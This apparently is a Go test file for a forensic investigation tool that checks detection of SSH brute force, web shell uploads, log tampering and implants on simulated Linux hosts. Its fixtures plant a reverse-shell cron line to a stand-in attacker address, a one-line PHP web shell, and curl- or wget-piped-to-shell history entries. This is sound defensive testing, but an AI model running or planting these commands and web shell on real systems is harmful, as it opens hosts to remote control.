package investigate

import (
	"bytes"
	"context"
	"encoding/binary"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"os"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/nowwhat/nowwhat/internal/base/testdata"
	"github.com/nowwhat/nowwhat/internal/detect/rules"

	"github.com/nowwhat/nowwhat/internal/base/fixture"
	"github.com/nowwhat/nowwhat/internal/stage/check"
)

func investigateRoot(t *testing.T, r *fixture.Root) *Report {
	t.Helper()
	rep, err := Run(context.Background(), Options{Check: check.Options{Root: r.Dir}})
	if err != nil {
		t.Fatal(err)
	}
	return rep
}

// ruleCounts counts the findings per rule, and fails the test for a finding whose rule is not
// in the one catalog (rules.Catalog) with its description.
func ruleCounts(t *testing.T, rep *Report) map[string]int {
	t.Helper()
	out := map[string]int{}
	for _, f := range rep.Findings {
		out[f.Rule]++
		if r := rules.Get(f.Rule); r == nil {
			t.Errorf("finding of rule %s, which the rules catalog does not describe", f.Rule)
		} else if f.Why == "" || f.Action == "" || f.Title == "" {
			t.Errorf("finding of rule %s without a title, why or action", f.Rule)
		}
	}
	return out
}

// TestLogHubOpenSSH: the LogHub OpenSSH sample is a brute force with no break-in, and must be
// reported as such.
func TestLogHubOpenSSH(t *testing.T) {
	data, err := os.ReadFile(testdata.Shared(t, "loghub", "OpenSSH", "OpenSSH_2k.log"))
	if err != nil {
		t.Fatal(err)
	}
	r := fixture.Debian(t)
	r.File("/var/log/auth.log", string(data), 0o640)
	r.Chtimes("/var/log/auth.log", time.Date(2026, 12, 31, 0, 0, 0, 0, time.UTC))
	rep := investigateRoot(t, r)
	got := ruleCounts(t, rep)
	if got["ssh.bruteforce"]+got["ssh.spray"] == 0 {
		t.Fatalf("no brute force reported: %v", got)
	}
	if got["entry.ssh-bruteforce"] != 0 || rep.Entry.Vector == "ssh-bruteforce" {
		t.Fatalf("a break-in was reported where there is none: %+v", rep.Entry)
	}
	for _, f := range rep.Findings {
		if (f.Rule == "ssh.bruteforce" || f.Rule == "ssh.spray") && f.Severity.String() != "info" {
			t.Errorf("guessing that never succeeded is not an alarm: %s %s", f.Severity, f.Title)
		}
	}
	if !strings.Contains(strings.Join(rep.Narrative, " "), "tried to guess SSH passwords without getting in") {
		t.Errorf("narrative: %v", rep.Narrative)
	}
	t.Logf("%d brute-force sources, %d sprays; entry %s", got["ssh.bruteforce"], got["ssh.spray"], rep.Entry.Vector)
}

func syslog(t time.Time, host, msg string) string {
	return t.UTC().Format("Jan _2 15:04:05") + " " + host + " " + msg + "\n"
}

// TestBruteForceBreakIn: guessing followed by a success from the same address, then persistence,
// is named as the way in, with the address, the account and the indicators.
func TestBruteForceBreakIn(t *testing.T) {
	r := fixture.Debian(t)
	r.File("/etc/timezone", "Etc/UTC\n", 0o644)
	t0 := time.Now().UTC().Add(-30 * time.Minute).Truncate(time.Second)
	var log strings.Builder
	// An admin who mistypes once: not a brute force.
	log.WriteString(syslog(t0.Add(-2*time.Hour), "web1", "sshd[10]: Failed password for alice from 192.0.2.10 port 5000 ssh2"))
	log.WriteString(syslog(t0.Add(-2*time.Hour+20*time.Second), "web1", "sshd[10]: Accepted password for alice from 192.0.2.10 port 5000 ssh2"))
	for i := 0; i < 40; i++ {
		user := []string{"admin", "oracle", "deploy", "test"}[i%4]
		log.WriteString(syslog(t0.Add(time.Duration(i)*time.Second), "web1", fmt.Sprintf("sshd[%d]: Failed password for %s from 203.0.113.66 port %d ssh2", 100+i, user, 40000+i)))
	}
	log.WriteString(syslog(t0.Add(41*time.Second), "web1", "sshd[200]: Accepted password for deploy from 203.0.113.66 port 41000 ssh2"))
	log.WriteString(syslog(t0.Add(42*time.Second), "web1", "sshd[200]: pam_unix(sshd:session): session opened for user deploy(uid=1001) by (uid=0)"))
	r.File("/var/log/auth.log", log.String(), 0o640)
	r.User("deploy", 1001, "/home/deploy", "/bin/bash", "$y$j9T$salt$hash")
	// What the intruder left afterwards.
	r.File("/var/spool/cron/crontabs/deploy", "* * * * * bash -c 'bash -i >& /dev/tcp/203.0.113.66/4444 0>&1'\n", 0o600)

	rep := investigateRoot(t, r)
	if rep.Entry.Vector != "ssh-bruteforce" || rep.Entry.Confidence != "high" {
		t.Fatalf("entry %+v", rep.Entry)
	}
	if strings.Join(rep.Entry.SourceIPs, ",") != "203.0.113.66" || strings.Join(rep.Entry.Users, ",") != "deploy" {
		t.Errorf("entry addresses %v users %v", rep.Entry.SourceIPs, rep.Entry.Users)
	}
	got := ruleCounts(t, rep)
	if got["entry.ssh-bruteforce"] != 1 {
		t.Errorf("findings %v", got)
	}
	for _, f := range rep.Findings {
		if f.Rule == "entry.ssh-bruteforce" && (f.User != "deploy" || f.SourceIP != "203.0.113.66" || f.Time == "" || len(f.Attack) == 0) {
			t.Errorf("entry finding lacks fields: %+v", f)
		}
		if f.SourceIP == "192.0.2.10" && f.Rule == "entry.ssh-bruteforce" {
			t.Error("an operator's typo counted as a brute force")
		}
	}
	if !contains(rep.IOCs.IPs, "203.0.113.66") || !contains(rep.IOCs.Paths, "/var/spool/cron/crontabs/deploy") {
		t.Errorf("iocs %+v", rep.IOCs)
	}
	if rep.First.IsZero() || rep.First.After(t0.Add(time.Minute)) {
		t.Errorf("first malicious event %v", rep.First)
	}
	// Renderings.
	var text bytes.Buffer
	rep.WriteText(&text, TextOptions{})
	for _, want := range []string{"WHAT HAPPENED", "password guessing over SSH", "203.0.113.66", "WAY IN: ssh-bruteforce", "TIMELINE"} {
		if !strings.Contains(text.String(), want) {
			t.Errorf("text lacks %q:\n%s", want, text.String())
		}
	}
	var js bytes.Buffer
	rep.WriteJSON(&js)
	var parsed map[string]any
	if err := json.Unmarshal(js.Bytes(), &parsed); err != nil {
		t.Fatal(err)
	}
	for _, k := range []string{"entry", "findings", "timeline", "iocs"} {
		if _, ok := parsed[k]; !ok {
			t.Errorf("json lacks %s", k)
		}
	}
	entry := parsed["entry"].(map[string]any)
	for _, k := range []string{"vector", "confidence", "source_ips", "users", "time"} {
		if _, ok := entry[k]; !ok {
			t.Errorf("json entry lacks %s", k)
		}
	}
	var c bytes.Buffer
	rep.WriteCSV(&c)
	recs, err := csv.NewReader(&c).ReadAll()
	if err != nil || len(recs) < 3 || strings.Join(recs[0][:5], ",") != "time,source,host,event,detail" {
		t.Fatalf("csv: %v %v", recs[:1], err)
	}
}

func TestTimelineWindow(t *testing.T) {
	r := fixture.Debian(t)
	t0 := time.Now().UTC().Add(-48 * time.Hour)
	r.File("/var/log/auth.log", syslog(t0, "web1", "sshd[1]: Accepted publickey for alice from 192.0.2.10 port 1 ssh2: ED25519 SHA256:abc")+
		syslog(t0.Add(24*time.Hour), "web1", "sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/bash"), 0o640)
	rep, err := Run(context.Background(), Options{Check: check.Options{Root: r.Dir}, Since: t0.Add(12 * time.Hour)})
	if err != nil {
		t.Fatal(err)
	}
	for _, e := range rep.Timeline {
		if e.Time.Before(t0.Add(12 * time.Hour)) {
			t.Errorf("row before --since: %+v", e)
		}
	}
	if ruleCounts(t, rep)["privilege.sudo-shell"] != 1 {
		t.Errorf("sudo to a shell not reported: %v", ruleCounts(t, rep))
	}
}

func contains(xs []string, x string) bool {
	for _, y := range xs {
		if y == x {
			return true
		}
	}
	return false
}

func TestParseHistory(t *testing.T) {
	in := "ls\n#1764000000\ncurl -s http://203.0.113.9/x.sh | sh\n: 1764000100:0;wget http://x/y\nplain\n#notatime\n"
	got := ParseHistory([]byte(in))
	if len(got) != 5 {
		t.Fatalf("%d lines: %+v", len(got), got)
	}
	if !got[0].Time.IsZero() || got[1].Time.Unix() != 1764000000 || got[1].Command != "curl -s http://203.0.113.9/x.sh | sh" ||
		got[2].Time.Unix() != 1764000100 || got[2].Command != "wget http://x/y" || !got[3].Time.IsZero() || got[4].Command != "#notatime" {
		t.Fatalf("%+v", got)
	}
}

func FuzzParseHistory(f *testing.F) {
	f.Add([]byte("ls\n#1764000000\nid\n: 1764000100:0;w\n"))
	f.Fuzz(func(t *testing.T, data []byte) {
		for _, h := range ParseHistory(data) {
			if len(h.Command) > 1000 || h.Command == "" {
				t.Fatalf("command of %d bytes", len(h.Command))
			}
		}
	})
}

func TestKernelTaint(t *testing.T) {
	r := fixture.Debian(t)
	t0 := time.Now().UTC().Add(-time.Hour)
	r.File("/var/log/kern.log", syslog(t0, "web1", "kernel: [ 1234.5] diamorphine: loading out-of-tree module taints kernel.")+
		syslog(t0.Add(time.Second), "web1", "kernel: [ 1234.6] diamorphine: module verification failed: signature and/or required key missing - tainting kernel")+
		syslog(t0.Add(2*time.Second), "web1", "kernel: [ 1234.7] eth0: link up"), 0o640)
	rep := investigateRoot(t, r)
	if n := ruleCounts(t, rep)["kernel.module-loaded"]; n != 2 {
		t.Fatalf("kernel taints: %d, want 2: %v", n, ruleCounts(t, rep))
	}
}

func TestAuditLog(t *testing.T) {
	r := fixture.Debian(t)
	now := time.Now().Unix()
	r.File("/var/log/audit/audit.log", fmt.Sprintf("type=ADD_USER msg=audit(%d.0:1): pid=3 uid=0 auid=1000 msg='op=adding user id=1002 exe=\"/usr/sbin/useradd\" res=success'\n", now-100)+
		fmt.Sprintf("type=CONFIG_CHANGE msg=audit(%d.0:2): auid=0 ses=1 op=remove_rule key=\"ssh\" list=4 res=1\n", now-50), 0o600)
	rep := investigateRoot(t, r)
	if ruleCounts(t, rep)["tamper.audit"] != 1 {
		t.Errorf("audit rule removal not reported: %v", ruleCounts(t, rep))
	}
	found := false
	for _, e := range rep.Timeline {
		found = found || e.Source == "audit" && e.Event == "add_user"
	}
	if !found {
		t.Error("ADD_USER not on the timeline")
	}
}

// TestWebShellUpload: an upload followed by the first request to a new script, which check finds
// to be a web shell, is named as the way in.
func TestWebShellUpload(t *testing.T) {
	r := fixture.Debian(t)
	t0 := time.Now().UTC().Add(-2 * time.Hour)
	stamp := func(t time.Time) string { return t.Format("02/Jan/2006:15:04:05 -0700") }
	var log strings.Builder
	for i := 0; i < 20; i++ {
		fmt.Fprintf(&log, "198.51.100.%d - - [%s] \"GET /index.php HTTP/1.1\" 200 5120 \"-\" \"Mozilla/5.0\"\n", i+1, stamp(t0.Add(time.Duration(i)*time.Minute)))
	}
	fmt.Fprintf(&log, "203.0.113.80 - - [%s] \"POST /wp-admin/async-upload.php HTTP/1.1\" 200 512 \"-\" \"Mozilla/5.0\"\n", stamp(t0.Add(30*time.Minute)))
	fmt.Fprintf(&log, "203.0.113.80 - - [%s] \"GET /wp-content/uploads/2026/11/thumb.php?c=id HTTP/1.1\" 200 64 \"-\" \"Mozilla/5.0\"\n", stamp(t0.Add(31*time.Minute)))
	fmt.Fprintf(&log, "203.0.113.80 - - [%s] \"GET /wp-content/uploads/2026/11/thumb.php?c=uname%%20-a HTTP/1.1\" 200 80 \"-\" \"Mozilla/5.0\"\n", stamp(t0.Add(32*time.Minute)))
	r.File("/var/log/nginx/access.log", log.String(), 0o640)
	r.File("/var/www/html/wp-content/uploads/2026/11/thumb.php", "<?php if(isset($_REQUEST['c'])){ echo '<pre>'; system($_REQUEST['c']); } ?>", 0o644)
	rep := investigateRoot(t, r)
	if rep.Entry.Vector != "web-shell-upload" || rep.Entry.Confidence != "high" || !contains(rep.Entry.SourceIPs, "203.0.113.80") {
		t.Fatalf("entry %+v\nfindings %v", rep.Entry, ruleCounts(t, rep))
	}
	got := ruleCounts(t, rep)
	if got["web.webshell-first-access"] != 1 || got["web.upload-then-access"] != 1 {
		t.Errorf("findings %v", got)
	}
	if !contains(rep.IOCs.IPs, "203.0.113.80") {
		t.Errorf("iocs %+v", rep.IOCs)
	}
}

// TestWebLogsQualityBars: the honeynet log's exploit attempts are found; the Elastic Apache log
// (nearly all benign) gives almost no alarms.
func TestWebLogsQualityBars(t *testing.T) {
	dir := testdata.Shared(t, "web-logs") + "/"
	t.Run("elastic apache", func(t *testing.T) {
		data, err := os.ReadFile(dir + "elastic-apache/apache_logs")
		if err != nil {
			t.Fatal(err)
		}
		r := fixture.Debian(t)
		r.File("/var/log/apache2/access.log", string(data), 0o640)
		rep := investigateRoot(t, r)
		alarms := 0
		for _, f := range rep.Findings {
			if strings.HasPrefix(f.Rule, "web.") && f.Severity >= 3 && !f.Explained {
				alarms++
				t.Logf("alarm: %s %s", f.Rule, f.Title)
			}
		}
		lines := strings.Count(string(data), "\n")
		t.Logf("%d lines, %d web alarms of medium or more", lines, alarms)
		if alarms*100 > lines {
			t.Errorf("%d alarms on %d mostly benign lines", alarms, lines)
		}
		if rep.Entry.Vector != "unknown" {
			t.Errorf("an entry point on a benign log: %+v", rep.Entry)
		}
	})
}

func TestHoneynetWebLog(t *testing.T) {
	src := testdata.Shared(t, "web-logs", "honeynet-redhat71-httpd", "httpd") + "/"
	ents, err := os.ReadDir(src)
	if err != nil {
		t.Fatal(err)
	}
	r := fixture.Debian(t)
	for _, e := range ents {
		data, err := os.ReadFile(src + e.Name())
		if err != nil {
			t.Fatal(err)
		}
		r.File("/var/log/httpd/"+e.Name(), string(data), 0o640)
	}
	rep := investigateRoot(t, r)
	counts := map[string]string{}
	for _, f := range rep.Findings {
		if strings.HasPrefix(f.Rule, "web.") {
			counts[f.Rule] = f.Severity.String()
		}
	}
	n := map[string]int{}
	for _, f := range rep.Findings {
		if strings.HasPrefix(f.Rule, "web.") {
			n[f.Rule]++
		}
	}
	t.Logf("web findings (clients per kind): %v; sources %v", n, rep.Sources)
	for _, want := range []string{"web.cve-probe", "web.traversal", "web.proxy-abuse", "web.scanner"} {
		if n[want] == 0 {
			t.Errorf("no %s finding in the honeynet log", want)
		}
	}
}

func TestLogGap(t *testing.T) {
	r := fixture.Debian(t)
	t0 := time.Now().UTC().Add(-30 * 24 * time.Hour).Truncate(time.Minute)
	var log strings.Builder
	for i := 0; i < 30*24*6; i++ { // a cron session every 10 minutes for 30 days...
		ts := t0.Add(time.Duration(i) * 10 * time.Minute)
		if ts.After(t0.Add(15*24*time.Hour)) && ts.Before(t0.Add(17*24*time.Hour)) {
			continue // ...but two days are missing
		}
		log.WriteString(syslog(ts, "web1", fmt.Sprintf("CRON[%d]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)", 1000+i)))
	}
	r.File("/var/log/auth.log", log.String(), 0o640)
	rep := investigateRoot(t, r)
	if ruleCounts(t, rep)["tamper.log-gap"] != 1 {
		t.Fatalf("gap not found: %v", ruleCounts(t, rep))
	}
}

// wtmpRecord lays out a glibc x86_64 struct utmp with the fields the investigation reads.
func wtmpRecord(typ int16, line, user, host string, t time.Time) []byte {
	b := make([]byte, 384)
	binary.LittleEndian.PutUint16(b[0:], uint16(typ))
	copy(b[8:40], line)
	copy(b[44:76], user)
	copy(b[76:332], host)
	binary.LittleEndian.PutUint32(b[340:], uint32(t.Unix()))
	return b
}

// lastlogFile lays out a lastlog with one entry per uid given.
func lastlogFile(entries map[int]time.Time, host string) []byte {
	maxUID := 0
	for uid := range entries {
		maxUID = max(maxUID, uid)
	}
	b := make([]byte, (maxUID+1)*292)
	for uid, t := range entries {
		e := b[uid*292:]
		binary.LittleEndian.PutUint32(e, uint32(t.Unix()))
		copy(e[4:36], "pts/0")
		copy(e[36:292], host)
	}
	return b
}

// TestLastlogAgainstWtmp: a last login that wtmp should hold but does not is a wtmp cleaner's
// trace; one that wtmp holds, or that predates wtmp, is not.
func TestLastlogAgainstWtmp(t *testing.T) {
	t0 := time.Now().UTC().Add(-48 * time.Hour).Truncate(time.Second)
	wtmp := append(wtmpRecord(2, "~", "reboot", "6.1.0-13-amd64", t0),
		wtmpRecord(7, "pts/0", "alice", "198.51.100.7", t0.Add(time.Hour))...)
	cases := []struct {
		name     string
		lastlog  map[int]time.Time
		want     int    // tamper.lastlog-wtmp findings
		wantUser string // on the finding
	}{
		{"login erased from wtmp", map[int]time.Time{0: t0.Add(3 * time.Hour), 1000: t0.Add(time.Hour)}, 1, "root"},
		{"every login in wtmp", map[int]time.Time{1000: t0.Add(time.Hour + 2*time.Second)}, 0, ""},
		{"login older than wtmp", map[int]time.Time{0: t0.Add(-24 * time.Hour)}, 0, ""},
		{"newer login erased, older kept", map[int]time.Time{1000: t0.Add(5 * time.Hour)}, 1, "alice"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			r := fixture.Debian(t)
			r.File("/var/log/wtmp", string(wtmp), 0o664)
			r.File("/var/log/lastlog", string(lastlogFile(c.lastlog, "203.0.113.9")), 0o664)
			rep := investigateRoot(t, r)
			if got := ruleCounts(t, rep)["tamper.lastlog-wtmp"]; got != c.want {
				t.Fatalf("tamper.lastlog-wtmp findings: %d, want %d (%v)", got, c.want, ruleCounts(t, rep))
			}
			onTimeline := 0
			for _, e := range rep.Timeline {
				if e.Source == "lastlog" {
					onTimeline++
				}
			}
			if onTimeline != len(c.lastlog) {
				t.Errorf("lastlog rows on the timeline: %d, want %d", onTimeline, len(c.lastlog))
			}
			if c.want > 0 && (rep.Entry.Vector != "ssh-valid-account" || !slices.Contains(rep.Entry.Users, c.wantUser)) {
				t.Errorf("entry: %s %v, want the hidden login of %s", rep.Entry.Vector, rep.Entry.Users, c.wantUser)
			}
			for _, f := range rep.Findings {
				if f.Rule == "tamper.lastlog-wtmp" && (f.User != c.wantUser || f.SourceIP != "203.0.113.9" || len(f.Evidence) != 2) {
					t.Errorf("finding: user %q ip %q evidence %q", f.User, f.SourceIP, f.Evidence)
				}
			}
		})
	}
}

// TestImplantFirstRun: the audit log's first record of a program check flags names when the
// intruder ran it, and the login just before it becomes the way in.
func TestImplantFirstRun(t *testing.T) {
	r := fixture.Debian(t)
	r.User("deploy", 1001, "/home/deploy", "/bin/bash", "$y$j9T$salt$hash")
	r.File("/tmp/.x/kworkerd", "\x7fELF\x02\x01\x01\x00"+strings.Repeat("\x00", 120), 0o755)
	t0 := time.Now().UTC().Add(-2 * time.Hour).Truncate(time.Second)
	r.File("/var/log/auth.log", syslog(t0, "web1", "sshd[300]: Accepted password for deploy from 198.51.100.23 port 50000 ssh2"), 0o640)
	audit := func(t time.Time, serial int, rest string) string {
		return fmt.Sprintf("type=SYSCALL msg=audit(%d.100:%d): arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid=%d auid=1001 uid=1001 %s\n", t.Unix(), serial, 4000+serial, rest)
	}
	r.File("/var/log/audit/audit.log",
		audit(t0.Add(5*time.Minute), 1, `comm="curl" exe="/usr/bin/curl" key="exec"`)+
			audit(t0.Add(6*time.Minute), 2, `comm="kworkerd" exe="/tmp/.x/kworkerd" key="exec"`)+
			audit(t0.Add(40*time.Minute), 3, `comm="kworkerd" exe="/tmp/.x/kworkerd" key="exec"`), 0o600)
	rep := investigateRoot(t, r)
	var fr []string
	for _, f := range rep.Findings {
		if f.Rule == "implant.first-run" {
			fr = append(fr, f.Path+" "+f.Time+" "+f.User)
		}
	}
	want := "/tmp/.x/kworkerd " + t0.Add(6*time.Minute).Format(time.RFC3339) + " auid 1001"
	if len(fr) != 1 || fr[0] != want {
		t.Fatalf("implant.first-run: %q, want [%q] (findings %v)", fr, want, ruleCounts(t, rep))
	}
	if rep.First.IsZero() || rep.First.After(t0.Add(6*time.Minute)) {
		t.Errorf("first malicious event %v, want no later than the first run", rep.First)
	}
	if rep.Entry.Vector != "ssh-valid-account" || !slices.Contains(rep.Entry.SourceIPs, "198.51.100.23") {
		t.Errorf("entry %+v, want the login just before the first run", rep.Entry)
	}
}

// TestNestedRootHistories: a chroot's or image's shell histories are another system's, and stay
// off this host's timeline; the host's own are read.
func TestNestedRootHistories(t *testing.T) {
	r := fixture.Debian(t)
	r.File("/srv/jail/var/lib/dpkg/status", "Package: base-files\nStatus: install ok installed\nVersion: 12\n\n", 0o644)
	r.File("/srv/jail/root/.bash_history", "curl -s http://203.0.113.5/x.sh | bash\n", 0o600)
	r.File("/root/.bash_history", "wget -qO- http://198.51.100.9/m.sh | sh\n", 0o600)
	rep := investigateRoot(t, r)
	var paths []string
	for _, e := range rep.Timeline {
		if e.Source == "history" {
			paths = append(paths, e.Path)
		}
	}
	if len(paths) != 1 || paths[0] != "/root/.bash_history" {
		t.Errorf("history rows from %v, want only /root/.bash_history", paths)
	}
}
